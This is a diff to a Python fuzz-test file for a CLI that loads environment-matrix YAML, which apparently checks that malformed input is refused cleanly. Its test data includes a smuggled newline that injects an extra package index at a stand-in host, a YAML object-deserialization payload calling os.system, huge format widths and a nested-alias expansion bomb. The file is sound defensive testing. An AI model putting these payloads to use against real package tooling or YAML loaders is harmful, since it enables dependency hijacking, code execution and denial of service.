@@ -25,7 +25,9 @@ from typer.testing import CliRunner
 
 from envctl.cli import app
 from envctl.create.build import create_env
+from envctl.core.atomic import SAFE_NAME
 from envctl.core.errors import EnvctlError
+from envctl.core.limits import control_char
 from envctl.matrix.fields import TARGET_FIELDS
 from envctl.lock.lockfile import read_lock_meta
 from envctl.matrix.loader import AXIS_KEYS, TOP_LEVEL_KEYS, load_matrix
@@ -45,17 +47,23 @@ KEYS = sorted(set(TOP_LEVEL_KEYS) | set(TARGET_FIELDS) | set(AXIS_KEYS) | {"reas
 NASTY_TEXT = ["*", "3.11", "2.13.0", "2.4rc1", "58c", ">=1.16,<1.18", "==1.17.*", "~=1", "===1.0", ">=", "1.0|2.0",
               "linux-64", "osx-arm64", "torchscript", "dynamo", "cnn", "a:b", ":", "11.8", "none", "gpu", "cpu",
               "{torch}", "x-{opset}", "{0}", "{torch!r}", "{nope}", "../x", "/abs", "..", "x/y", "", " ", "\0",
-              "2001-13-40", "!!python/object/apply:os.system", "conda-forge", "file:///nonexistent"]
+              "2001-13-40", "!!python/object/apply:os.system", "conda-forge", "file:///nonexistent",
+              # issue 12: smuggled lines and control characters, huge format widths
+              "six\n--extra-index-url http://evil.invalid", "a\n", "a\r", "\x1b[31m", "a\u2028b", "a\x85", "\t",
+              "t{torch:>3000000000}", "{torch:{opset}}", "{opset:099999999d}", "-e .", "--index-url=http://x"]
+CONTROL = st.text(alphabet=st.characters(categories=("Cc",), include_characters="\u2028\u2029"), min_size=1, max_size=3)
 scalars = st.one_of(
     st.none(), st.booleans(), st.integers(-(10**6), 10**20), st.floats(allow_nan=True, allow_infinity=True),
     st.text(max_size=16), st.sampled_from(NASTY_TEXT),
+    st.builds(lambda a, c, b: a + c + b, st.sampled_from(["", "a", "2.4", "cnn", "t"]), CONTROL, st.sampled_from(["", "x", "\n"])),
 )
 keys = st.one_of(st.sampled_from(KEYS), st.text(max_size=8), st.integers(0, 3))
 values = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(keys, inner, max_size=4)),
                       max_leaves=20)
 fields_map = st.dictionaries(st.sampled_from(sorted(TARGET_FIELDS)), values, max_size=8)
 axes_group = st.fixed_dictionaries({}, optional={
-    "name": st.one_of(st.sampled_from(["t-{torch}", "x{opset}", "{nope}", "{0}", "{torch!r}", "../{torch}"]), values),
+    "name": st.one_of(st.sampled_from(["t-{torch}", "x{opset}", "{nope}", "{0}", "{torch!r}", "../{torch}"]), values,
+                      st.from_regex(r"\At\{(torch|opset)(![rsa])?:[<>^=]?[+ -]?0?[0-9]{1,12}(\.[0-9]{1,10})?[sdf]?\}\Z")),
     "base": st.one_of(fields_map, values),
     "product": st.one_of(st.dictionaries(st.sampled_from(sorted(TARGET_FIELDS)), st.lists(values, max_size=3), max_size=3), values),
     "zip": st.one_of(st.lists(st.dictionaries(st.sampled_from(sorted(TARGET_FIELDS)), st.lists(values, max_size=3), max_size=2), max_size=2), values),
@@ -64,7 +72,7 @@ axes_group = st.fixed_dictionaries({}, optional={
 random_docs = st.fixed_dictionaries({}, optional={
     "version": st.one_of(st.just(1), values),
     "defaults": st.one_of(fields_map, values),
-    "targets": st.one_of(st.dictionaries(st.one_of(st.text(max_size=10), st.sampled_from(["a", "..", "x/y", "/abs"])),
+    "targets": st.one_of(st.dictionaries(st.one_of(st.text(max_size=10), st.sampled_from(["a", "..", "x/y", "/abs", "a\n", "a~old-1", "b\r"])),
                                          st.one_of(fields_map, values), max_size=3), values),
     "axes": st.one_of(st.lists(axes_group, max_size=2), values),
 }).flatmap(lambda doc: st.dictionaries(keys, values, max_size=2).map(lambda extra: {**extra, **doc}) | st.just(doc))
@@ -99,8 +107,35 @@ def _load_check_render(path: Path) -> None:
         assert exc.exit_code == 2 and str(exc).strip() and exc.file == str(path)
         return
     for target in matrix.targets.values():
+        assert SAFE_NAME.fullmatch(target.name), target.name
+        data = target.to_json()
+        for key in ("description", "xfail"):  # free text may span lines (its writers fold or quote it)
+            assert control_char(data.pop(key) or "", "\n\t") is None, repr(target)
+        _assert_no_control(data)
         check_target(target)
         render_text(target, path)
+
+
+def _assert_no_control(node) -> None:
+    """Whatever loads reaches files, command lines and YAML: no string in it may carry a control character."""
+    if isinstance(node, str):
+        assert control_char(node) is None, repr(node)
+    elif isinstance(node, dict):
+        for key, value in node.items():
+            _assert_no_control(key)
+            _assert_no_control(value)
+    elif isinstance(node, (list, tuple)):
+        for value in node:
+            _assert_no_control(value)
+
+
+def _aliased_text(levels: int, width: int, where: str, tail: str) -> str:
+    """A matrix whose aliases nest `levels` deep and `width` wide (anchored in exclude entries), used at `where`."""
+    chain = ["      - reason: &b0 [lol]", "        source: s"]
+    for i in range(1, levels + 1):
+        chain += [f"      - reason: &b{i} [{', '.join(f'*b{i - 1}' for _ in range(width))}]", "        source: s"]
+    return "\n".join(["version: 1", "axes:", "  - name: t{torch}", "    base:", f"      {where}: *b{levels}",
+                      "    product:", f"      torch: {tail}", "    exclude:", *chain]) + "\n"
 
 
 # ---------------------------------------------------------------- properties
@@ -129,6 +164,24 @@ def test_near_valid_matrices_load_or_refuse_cleanly(doc):
 def test_raw_yamlish_text_loads_or_refuses_cleanly(text):
     with tempfile.TemporaryDirectory() as tmp:
         _load_check_render(_write(text, Path(tmp)))
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.integers(1, 12), st.integers(1, 40), st.sampled_from(["opset", "description", "pip_extra"]),
+       st.sampled_from(['["2.4"]', '["2.4", "2.5"]']))
+def test_alias_documents_load_or_refuse_cleanly(levels, width, where, tail):
+    """Aliases at any depth and width: loaded, or refused by the expansion budget, never expanded in full."""
+    with tempfile.TemporaryDirectory() as tmp:
+        _load_check_render(_write(_aliased_text(levels, width, where, tail), Path(tmp)))
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.from_regex(r"\At[a-z]{0,3}\{(torch|opset)(![rsa])?:.?[<>^=]?[+ -]?#?0?[0-9]{1,12},?(\.[0-9]{1,12})?[a-zA-Z%]?\}\Z"))
+def test_format_widths_in_name_templates_are_refused_cleanly(template):
+    doc = {"version": 1, "defaults": VALID, "axes": [{"name": template, "product": {"torch": ["2.4"], "opset": [17]}}]}
+    with tempfile.TemporaryDirectory() as tmp:
+        with pytest.raises(EnvctlError, match="name template|control characters are not allowed"):
+            load_matrix(_write(doc, Path(tmp)))
 
 
 @settings(max_examples=500, deadline=None)
